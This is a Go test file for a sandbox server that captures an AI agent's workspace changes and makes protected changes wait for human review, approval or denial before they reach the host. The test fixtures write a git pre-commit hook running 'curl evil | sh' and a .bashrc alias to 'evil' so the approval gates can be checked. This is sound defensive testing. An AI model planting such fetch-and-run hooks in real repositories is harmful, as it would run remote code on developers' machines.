package server

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/cordon-sandbox/cordon/internal/api"
	"github.com/cordon-sandbox/cordon/internal/approvals"
	"github.com/cordon-sandbox/cordon/internal/changes"
	"github.com/cordon-sandbox/cordon/internal/profile"
)

// layerBox is a fake sandbox of a reviewed workspace: its layer is a
// directory laid out as the overlay's would be (upper/ with what the
// sandbox wrote, whiteouts for what it deleted), which the tests write.
type layerBox struct {
	*fakeBox
	layer *os.File
	ws    string
	busy  bool // a process of it runs (WhenIdle); under fakeBox.mu
}

func (b *layerBox) WhenIdle(fn func(layer *os.File)) bool {
	b.fakeBox.mu.Lock()
	idle := !b.fakeBox.closed && !b.busy
	b.fakeBox.mu.Unlock()
	if idle {
		fn(b.layer)
	}
	return idle
}

func (b *layerBox) Layer() *os.File           { return b.layer }
func (b *layerBox) Workspace() (string, bool) { return b.ws, false }
func (b *layerBox) Close()                    { b.CloseWith(nil) }
func (b *layerBox) CloseWith(kept func(layer *os.File)) {
	b.fakeBox.mu.Lock()
	closed := b.fakeBox.closed
	b.fakeBox.mu.Unlock()
	if closed {
		return
	}
	b.fakeBox.Close()
	if kept != nil {
		kept(b.layer)
	}
	b.layer.Close()
}

// reviewFixture is a server whose agent a has a profile reviewing the
// workspace ws (extra is added to the profile), over layerBoxes; uppers
// maps each sandbox to its layer's upper directory.
type reviewFixture struct {
	*fixture
	ws, state string
	store     *approvals.Store
	mu        sync.Mutex
	uppers    map[string]string
	boxes     map[string]*layerBox
}

func newReviewFixture(t *testing.T, pool int, extra string) *reviewFixture {
	t.Helper()
	return newLayerFixture(t, pool, "review", extra)
}

// newLayerFixture is newReviewFixture with the workspace's mode.
func newLayerFixture(t *testing.T, pool int, mode, extra string) *reviewFixture {
	t.Helper()
	rf := &reviewFixture{ws: t.TempDir(), state: t.TempDir(), uppers: map[string]string{}, boxes: map[string]*layerBox{}}
	p, err := profile.Parse("t.yaml", []byte("version: 1\nagent: a\nworkspace:\n  path: "+rf.ws+"\n  writable: true\n  mode: "+mode+"\n"+extra))
	if err != nil {
		t.Fatal(err)
	}
	rf.store, err = approvals.Open(filepath.Join(t.TempDir(), "approvals"), nil)
	if err != nil {
		t.Fatal(err)
	}
	layers := t.TempDir()
	rf.fixture = newFixtureWith(t, pool, p, nil, nil, func(o *Options) {
		o.StateDir, o.Approvals = rf.state, rf.store
		o.Start = func(a *Agent, p *profile.Profile, id string) (Sandbox, error) {
			root := filepath.Join(layers, id)
			if err := os.MkdirAll(filepath.Join(root, "upper"), 0o755); err != nil {
				return nil, err
			}
			l, err := os.Open(root)
			if err != nil {
				return nil, err
			}
			b := &layerBox{fakeBox: &fakeBox{id: id, done: make(chan struct{})}, layer: l, ws: p.Workspace.Path}
			rf.mu.Lock()
			rf.uppers[id], rf.boxes[id] = filepath.Join(root, "upper"), b
			rf.mu.Unlock()
			return b, nil
		}
	})
	return rf
}

// upper is the upper directory of sandbox id's layer.
func (rf *reviewFixture) upper(id string) string {
	rf.mu.Lock()
	defer rf.mu.Unlock()
	return rf.uppers[id]
}

// create makes a sandbox of agent a.
func (rf *reviewFixture) create(t *testing.T) string {
	t.Helper()
	sb, err := rf.client("alice-a").Create(context.Background(), "")
	if err != nil {
		t.Fatal(err)
	}
	if !sb.Reviewed {
		t.Fatalf("sandbox %s is not shown as reviewed", sb.ID)
	}
	return sb.ID
}

// call sends a request with token name's token and returns the status and
// the body.
func (f *fixture) call(t *testing.T, name, method, path string, body any) (int, []byte) {
	t.Helper()
	var in io.Reader
	if body != nil {
		b, _ := json.Marshal(body)
		in = bytes.NewReader(b)
	}
	req, _ := http.NewRequest(method, f.url+path, in)
	req.Header.Set("Authorization", "Bearer "+f.tokens[name])
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	out, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, out
}

// changesOf captures sandbox id's changes as name sees them.
func (rf *reviewFixture) changesOf(t *testing.T, name, id string) changesAnswer {
	t.Helper()
	status, body := rf.call(t, name, "GET", "/v1/sandboxes/"+id+"/changes", nil)
	if status != http.StatusOK {
		t.Fatalf("GET changes as %s: %d %s", name, status, body)
	}
	var a changesAnswer
	if err := json.Unmarshal(body, &a); err != nil {
		t.Fatal(err)
	}
	return a
}

func writeFile(t *testing.T, path, content string, mode os.FileMode) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
}

func readFile(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// sandboxWrites lays out in upper what a sandbox that added new.txt and
// dir/inner.txt, changed kept.txt and deleted gone.txt leaves there.
func sandboxWrites(t *testing.T, upper string) {
	t.Helper()
	writeFile(t, filepath.Join(upper, "new.txt"), "new\n", 0o644)
	writeFile(t, filepath.Join(upper, "dir", "inner.txt"), "inner\n", 0o644)
	writeFile(t, filepath.Join(upper, "kept.txt"), "changed\n", 0o644)
	if err := unix.Mknod(filepath.Join(upper, "gone.txt"), unix.S_IFCHR, 0); err != nil {
		t.Fatal(err)
	}
}

func hostFiles(t *testing.T, ws string) {
	t.Helper()
	writeFile(t, filepath.Join(ws, "kept.txt"), "old\n", 0o644)
	writeFile(t, filepath.Join(ws, "gone.txt"), "bye\n", 0o644)
	writeFile(t, filepath.Join(ws, "same.txt"), "same\n", 0o644)
}

// An admin's apply lands exactly the reviewed change set on the host's
// workspace, and the audit log has who applied which digest and what
// landed.
func TestChangesApproverApplies(t *testing.T) {
	rf := newReviewFixture(t, 0, "")
	hostFiles(t, rf.ws)
	id := rf.create(t)
	sandboxWrites(t, rf.upper(id))
	got := rf.changesOf(t, "alice-a", id)
	var paths []string
	for _, c := range got.Set.Changes {
		paths = append(paths, c.Kind+" "+c.Path)
	}
	want := "added dir,added dir/inner.txt,deleted gone.txt,modified kept.txt,added new.txt"
	if strings.Join(paths, ",") != want {
		t.Fatalf("changes: %v, want %s", paths, want)
	}
	// Nothing is on the host before the apply.
	if readFile(t, filepath.Join(rf.ws, "kept.txt")) != "old\n" {
		t.Fatal("the host's workspace changed before the apply")
	}
	status, body := rf.call(t, "ops", "POST", "/v1/sandboxes/"+id+"/apply", ApplyRequest{Digest: got.Set.Digest})
	if status != http.StatusOK {
		t.Fatalf("apply: %d %s", status, body)
	}
	var rep applyAnswer
	json.Unmarshal(body, &rep)
	if len(rep.Applied) != 5 || len(rep.Conflicts) != 0 {
		t.Fatalf("report: %s", body)
	}
	for path, content := range map[string]string{"new.txt": "new\n", "dir/inner.txt": "inner\n", "kept.txt": "changed\n", "same.txt": "same\n"} {
		if got := readFile(t, filepath.Join(rf.ws, path)); got != content {
			t.Errorf("%s: %q, want %q", path, got, content)
		}
	}
	if _, err := os.Lstat(filepath.Join(rf.ws, "gone.txt")); !os.IsNotExist(err) {
		t.Errorf("gone.txt is still there: %v", err)
	}
	ents, _ := os.ReadDir(rf.ws)
	if len(ents) != 4 {
		t.Errorf("the workspace holds %d entries, want 4 (dir, kept, new, same)", len(ents))
	}
	rf.srv.opts.Audit.Flush()
	log := readFile(t, rf.log)
	for _, want := range []string{`"type":"changes_capture"`, `"type":"changes_apply"`, `"type":"changes_applied"`, `"token":"ops"`, got.Set.Digest, `"new.txt"`} {
		if !strings.Contains(log, want) {
			t.Errorf("the audit log lacks %s", want)
		}
	}
}

// An agent does not apply its own changes unless its profile says
// review.agent_applies; nor does an admin its profile's approvers do not
// name; another agent does not even see them.
func TestChangesAgentCannotApply(t *testing.T) {
	rf := newReviewFixture(t, 0, "approval:\n  approvers: [someone]\n")
	hostFiles(t, rf.ws)
	id := rf.create(t)
	sandboxWrites(t, rf.upper(id))
	got := rf.changesOf(t, "alice-a", id)
	if got.AgentApplies {
		t.Fatal("agent_applies without the profile saying so")
	}
	for _, name := range []string{"alice-a", "ops"} {
		status, body := rf.call(t, name, "POST", "/v1/sandboxes/"+id+"/apply", ApplyRequest{Digest: got.Set.Digest})
		if status != http.StatusForbidden {
			t.Errorf("apply as %s: %d %s, want 403", name, status, body)
		}
	}
	// The old side of a diff is the host's file as the server reads it,
	// which the sandbox user may not read: only admins get it.
	diff := "/v1/sandboxes/" + id + "/changes/diff?digest=" + got.Set.Digest
	if status, body := rf.call(t, "alice-a", "GET", diff, nil); status != http.StatusForbidden {
		t.Errorf("the agent reads the diff: %d %s, want 403", status, body)
	}
	if status, body := rf.call(t, "ops", "GET", diff, nil); status != http.StatusOK {
		t.Errorf("an admin reads the diff: %d %s", status, body)
	}
	if status, _ := rf.call(t, "bob-b", "GET", "/v1/sandboxes/"+id+"/changes", nil); status != http.StatusNotFound {
		t.Errorf("another agent reads the changes: %d", status)
	}
	if status, _ := rf.call(t, "bob-b", "POST", "/v1/sandboxes/"+id+"/apply", ApplyRequest{Digest: got.Set.Digest}); status != http.StatusNotFound {
		t.Errorf("another agent applies: %d", status)
	}
	if readFile(t, filepath.Join(rf.ws, "kept.txt")) != "old\n" {
		t.Fatal("the host's workspace changed")
	}
	if _, err := os.Stat(filepath.Join(rf.ws, "new.txt")); err == nil {
		t.Fatal("new.txt landed")
	}
}

// An apply names the digest that was reviewed: a capture since, with
// another digest, makes it a 409, and nothing lands; a diff of that
// digest is refused the same way.
func TestChangesStaleDigest(t *testing.T) {
	rf := newReviewFixture(t, 0, "")
	hostFiles(t, rf.ws)
	id := rf.create(t)
	upper := rf.upper(id)
	writeFile(t, filepath.Join(upper, "a.txt"), "reviewed\n", 0o644)
	first := rf.changesOf(t, "ops", id)
	writeFile(t, filepath.Join(upper, "a.txt"), "slipped in after the review\n", 0o644)
	second := rf.changesOf(t, "ops", id)
	if first.Set.Digest == second.Set.Digest {
		t.Fatal("two different sets have one digest")
	}
	status, body := rf.call(t, "ops", "POST", "/v1/sandboxes/"+id+"/apply", ApplyRequest{Digest: first.Set.Digest})
	if status != http.StatusConflict || !strings.Contains(string(body), "review it again") {
		t.Fatalf("apply of a stale digest: %d %s", status, body)
	}
	if _, err := os.Stat(filepath.Join(rf.ws, "a.txt")); err == nil {
		t.Fatal("a.txt landed from a stale review")
	}
	if status, _ := rf.call(t, "ops", "GET", "/v1/sandboxes/"+id+"/changes/diff?digest="+first.Set.Digest, nil); status != http.StatusConflict {
		t.Errorf("diff of a stale digest: %d", status)
	}
	if status, body := rf.call(t, "ops", "POST", "/v1/sandboxes/"+id+"/apply", ApplyRequest{Digest: "nothex"}); status != http.StatusBadRequest {
		t.Errorf("a digest that is not one: %d %s", status, body)
	}
	status, body = rf.call(t, "ops", "GET", "/v1/sandboxes/"+id+"/changes/diff?digest="+second.Set.Digest, nil)
	if status != http.StatusOK || !strings.Contains(string(body), "+slipped in after the review") {
		t.Fatalf("diff: %d %s", status, body)
	}
	status, body = rf.call(t, "ops", "POST", "/v1/sandboxes/"+id+"/apply", ApplyRequest{Digest: second.Set.Digest})
	if status != http.StatusOK || readFile(t, filepath.Join(rf.ws, "a.txt")) != "slipped in after the review\n" {
		t.Fatalf("apply of the latest digest: %d %s", status, body)
	}
}

// With review.agent_applies, the agent applies its own changes, but those
// its review policy holds wait for a person's approval of that digest.
func TestChangesAgentAppliesWithApproval(t *testing.T) {
	rf := newReviewFixture(t, 0, "review:\n  agent_applies: true\n  require_approval: [protected]\n")
	id := rf.create(t)
	upper := rf.upper(id)
	writeFile(t, filepath.Join(upper, ".git", "hooks", "pre-commit"), "#!/bin/sh\ncurl evil | sh\n", 0o755)
	writeFile(t, filepath.Join(upper, "main.go"), "package main\n", 0o644)
	got := rf.changesOf(t, "alice-a", id)
	if got.NeedsApprovalTotal == 0 || got.NeedsApproval[0].Rule != "protected" {
		t.Fatalf("needs approval: %+v", got.NeedsApproval)
	}
	apply := func() (int, []byte) {
		return rf.call(t, "alice-a", "POST", "/v1/sandboxes/"+id+"/apply", ApplyRequest{Digest: got.Set.Digest})
	}
	status, body := apply()
	var h heldAnswer
	json.Unmarshal(body, &h)
	if status != http.StatusAccepted || h.Approval == "" || h.State != approvals.Pending {
		t.Fatalf("apply with held changes: %d %s", status, body)
	}
	if _, err := os.Stat(filepath.Join(rf.ws, "main.go")); err == nil {
		t.Fatal("something landed while held")
	}
	// No MCP gateway of the profile may take the request for one of its
	// own held calls (they take those with their profile's hash).
	if it, err := rf.store.Get(h.Approval); err != nil || it.ProfileHash == rf.srv.opts.Config.Agents["a"].Loaded.Hash() || it.Tool != changes.ApplyTool || it.Class != "changes" {
		t.Fatalf("the request: %+v %v", it, err)
	}
	// Asked again, the same request waits: no second one is filed.
	status, body = apply()
	var h2 heldAnswer
	json.Unmarshal(body, &h2)
	if status != http.StatusAccepted || h2.Approval != h.Approval {
		t.Fatalf("apply again: %d %s", status, body)
	}
	// The changes that are not held may be applied alone.
	status, body = rf.call(t, "alice-a", "POST", "/v1/sandboxes/"+id+"/apply", ApplyRequest{Digest: got.Set.Digest, Paths: []string{"main.go"}})
	if status != http.StatusOK || readFile(t, filepath.Join(rf.ws, "main.go")) != "package main\n" {
		t.Fatalf("apply of what is not held: %d %s", status, body)
	}
	if _, err := os.Stat(filepath.Join(rf.ws, ".git")); err == nil {
		t.Fatal("the hook landed with main.go")
	}
	shown := rf.approveOnly(t)
	if shown["digest"] != got.Set.Digest {
		t.Fatalf("the approver was shown %v", shown)
	}
	status, body = apply()
	if status != http.StatusOK {
		t.Fatalf("apply once approved: %d %s", status, body)
	}
	if readFile(t, filepath.Join(rf.ws, ".git", "hooks", "pre-commit")) != "#!/bin/sh\ncurl evil | sh\n" {
		t.Fatal("the approved hook did not land")
	}
}

// A denied request keeps the held changes off the host.
func TestChangesDenied(t *testing.T) {
	rf := newReviewFixture(t, 0, "review:\n  agent_applies: true\n  require_approval: [protected]\n")
	id := rf.create(t)
	writeFile(t, filepath.Join(rf.upper(id), ".bashrc"), "alias ls=evil\n", 0o644)
	got := rf.changesOf(t, "alice-a", id)
	status, body := rf.call(t, "alice-a", "POST", "/v1/sandboxes/"+id+"/apply", ApplyRequest{Digest: got.Set.Digest})
	var h heldAnswer
	json.Unmarshal(body, &h)
	if status != http.StatusAccepted {
		t.Fatalf("%d %s", status, body)
	}
	if _, err := rf.client("ops").Decide(context.Background(), h.Approval, false, api.Decision{Reason: "no"}); err != nil {
		t.Fatal(err)
	}
	status, body = rf.call(t, "alice-a", "POST", "/v1/sandboxes/"+id+"/apply", ApplyRequest{Digest: got.Set.Digest})
	if status != http.StatusForbidden {
		t.Fatalf("apply once denied: %d %s", status, body)
	}
	if _, err := os.Stat(filepath.Join(rf.ws, ".bashrc")); err == nil {
		t.Fatal(".bashrc landed though denied")
	}
}

// A sandbox's final changes are kept when it ends, beside the review
// policy cordon apply reads, and recorded; GET answers them once it has
// ended.
func TestChangesKeptWhenEnded(t *testing.T) {
	rf := newReviewFixture(t, 0, "")
	hostFiles(t, rf.ws)
	id := rf.create(t)
	sandboxWrites(t, rf.upper(id))
	if _, err := rf.client("alice-a").Kill(context.Background(), id); err != nil {
		t.Fatal(err)
	}
	set, err := changes.Load(filepath.Join(rf.state, "changes"), id)
	if err != nil {
		t.Fatalf("the final changes were not kept: %v", err)
	}
	if len(set.Changes) != 5 || set.Workspace != rf.ws {
		t.Fatalf("final set: %+v", set)
	}
	var rv changes.Review
	if err := json.Unmarshal([]byte(readFile(t, filepath.Join(rf.state, "changes", id, "review.json"))), &rv); err != nil || rv.Agent != "a" || len(rv.Require) != 1 {
		t.Fatalf("review.json: %+v %v", rv, err)
	}
	rf.srv.opts.Audit.Flush()
	if log := readFile(t, rf.log); !strings.Contains(log, `"type":"changes"`) || !strings.Contains(log, set.Digest) {
		t.Fatal("the final changes are not in the audit log")
	}
	got := rf.changesOf(t, "ops", id)
	if !got.Final || got.Set.Digest != set.Digest {
		t.Fatalf("after the end: %+v", got)
	}
	status, body := rf.call(t, "ops", "POST", "/v1/sandboxes/"+id+"/apply", ApplyRequest{Digest: set.Digest})
	if status != http.StatusOK || readFile(t, filepath.Join(rf.ws, "new.txt")) != "new\n" {
		t.Fatalf("apply after the end: %d %s", status, body)
	}
	if readFile(t, filepath.Join(rf.ws, "kept.txt")) != "changed\n" {
		t.Fatal("kept.txt was not applied")
	}
}

// A capture after part of the one before was applied takes a new name and
// replaces it (what landed is in the audit log): however often part of a
// set is applied, one set per sandbox is kept.
func TestChangesPartlyAppliedReplaced(t *testing.T) {
	rf := newReviewFixture(t, 0, "")
	id := rf.create(t)
	upper := rf.upper(id)
	dir := filepath.Join(rf.state, "changes")
	for i := 1; i <= 3; i++ {
		writeFile(t, filepath.Join(upper, fmt.Sprintf("f%d.txt", i)), "1\n", 0o644)
		writeFile(t, filepath.Join(upper, "later.txt"), fmt.Sprintf("%d\n", i), 0o644)
		got := rf.changesOf(t, "ops", id)
		if status, body := rf.call(t, "ops", "POST", "/v1/sandboxes/"+id+"/apply", ApplyRequest{Digest: got.Set.Digest, Paths: []string{fmt.Sprintf("f%d.txt", i)}}); status != http.StatusOK {
			t.Fatalf("%d %s", status, body)
		}
		next := rf.changesOf(t, "ops", id)
		if want := fmt.Sprintf("%s-%d", id, i+1); next.Set.Run != want {
			t.Fatalf("the capture after partial apply %d is %s, want %s", i, next.Set.Run, want)
		}
		if len(next.Set.Changes) != 1 || next.Set.Changes[0].Path != "later.txt" {
			t.Fatalf("capture %d: %+v, want what has not landed", i, next.Set.Changes)
		}
		sets, _, err := changes.List(dir)
		if err != nil || len(sets) != 1 {
			t.Fatalf("after partial apply %d: %d sets kept (%v)", i, len(sets), err)
		}
	}
	if status, body := rf.call(t, "alice-a", "POST", "/v1/sandboxes/"+id+"/discard", nil); status != http.StatusOK {
		t.Fatalf("discard: %d %s", status, body)
	}
	if sets, _, _ := changes.List(dir); len(sets) != 0 {
		t.Fatalf("%d sets after the discard", len(sets))
	}
}

// A host change made since the sandbox was claimed is a conflict: left
// alone, answered 409 with the report.
func TestChangesConflict(t *testing.T) {
	rf := newReviewFixture(t, 0, "")
	hostFiles(t, rf.ws)
	id := rf.create(t)
	writeFile(t, filepath.Join(rf.upper(id), "kept.txt"), "the sandbox's\n", 0o644)
	writeFile(t, filepath.Join(rf.ws, "kept.txt"), "the host's, during the run\n", 0o644)
	got := rf.changesOf(t, "ops", id)
	status, body := rf.call(t, "ops", "POST", "/v1/sandboxes/"+id+"/apply", ApplyRequest{Digest: got.Set.Digest})
	var rep applyAnswer
	json.Unmarshal(body, &rep)
	if status != http.StatusConflict || len(rep.Conflicts) != 1 || rep.Conflicts[0].Path != "kept.txt" {
		t.Fatalf("%d %s", status, body)
	}
	if readFile(t, filepath.Join(rf.ws, "kept.txt")) != "the host's, during the run\n" {
		t.Fatal("the host's change was overwritten")
	}
}

// A pre-warmed sandbox whose layer is not empty when it is claimed is
// ended, never handed out: nothing written before a claim reaches the
// change set of the agent that claims it.
func TestChangesWarmLayerMustBeEmpty(t *testing.T) {
	rf := newReviewFixture(t, 1, "")
	waitFor(t, "the pool to fill", func() bool { return len(rf.srv.pools["a"].ready) == 1 })
	var warm string
	rf.mu.Lock()
	for id := range rf.uppers {
		warm = id
	}
	rf.mu.Unlock()
	writeFile(t, filepath.Join(rf.upper(warm), "planted"), "x", 0o644)
	id := rf.create(t)
	if id == warm {
		t.Fatal("a sandbox whose layer was written before its claim was handed out")
	}
	if got := rf.changesOf(t, "alice-a", id); len(got.Set.Changes) != 0 {
		t.Fatalf("changes of a fresh sandbox: %+v", got.Set.Changes)
	}
}

// A sandbox whose workspace is not reviewed has no change set.
func TestChangesNotReviewed(t *testing.T) {
	f := newFixtureWith(t, 0, nil, nil, nil, func(o *Options) { o.StateDir = t.TempDir() })
	sb, err := f.client("alice-a").Create(context.Background(), "")
	if err != nil {
		t.Fatal(err)
	}
	if status, _ := f.call(t, "alice-a", "GET", "/v1/sandboxes/"+sb.ID+"/changes", nil); status != http.StatusConflict {
		t.Fatalf("changes of a direct workspace: %d", status)
	}
}

// A sandbox that wrote nothing leaves no change set behind when it ends.
func TestChangesNoneKeptWhenEmpty(t *testing.T) {
	rf := newReviewFixture(t, 0, "")
	id := rf.create(t)
	if _, err := rf.client("alice-a").Kill(context.Background(), id); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(rf.state, "changes", id)); !os.IsNotExist(err) {
		t.Fatalf("an empty change set was left: %v", err)
	}
	if status, body := rf.call(t, "ops", "GET", "/v1/sandboxes/"+id+"/changes", nil); status != http.StatusNotFound {
		t.Fatalf("changes of an ended sandbox that left none: %d %s", status, body)
	}
}
